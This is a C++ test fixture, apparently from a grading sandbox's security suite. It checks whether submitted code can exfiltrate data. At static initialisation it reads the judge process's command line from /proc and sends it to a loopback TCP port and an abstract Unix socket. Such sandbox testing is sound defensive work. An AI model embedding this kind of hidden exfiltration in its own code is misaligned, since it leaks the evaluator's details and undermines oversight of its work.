// attack: sends the judge's command line and environment to a listener on 127.0.0.1 and to an abstract
// Unix socket, both outside the sandbox
// base: stub  expect: 0
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>
#include <cstring>
#include <fstream>
#include <sstream>
namespace {
std::string judgeCommandLine() {
  std::ifstream in("/proc/" + std::to_string(getppid()) + "/cmdline");
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}
void send(int fd, const sockaddr* address, socklen_t size, const std::string& text) {
  if (fd < 0) return;
  if (connect(fd, address, size) == 0) (void)!write(fd, text.data(), text.size());
  close(fd);
}
const bool sent = [] {
  const std::string text = "PATHLAB-ATTACK-NETWORK " + judgeCommandLine();
  sockaddr_in tcp{};
  tcp.sin_family = AF_INET;
  tcp.sin_port = htons(@PORT@);
  tcp.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  send(socket(AF_INET, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&tcp), sizeof tcp, text);
  sockaddr_un local{};
  local.sun_family = AF_UNIX;
  const char name[] = "\0@ABSTRACT@";
  std::memcpy(local.sun_path, name, sizeof name - 1);
  send(socket(AF_UNIX, SOCK_STREAM, 0), reinterpret_cast<sockaddr*>(&local),
       socklen_t(offsetof(sockaddr_un, sun_path) + sizeof name - 1), text);
  return true;
}();
}  // namespace
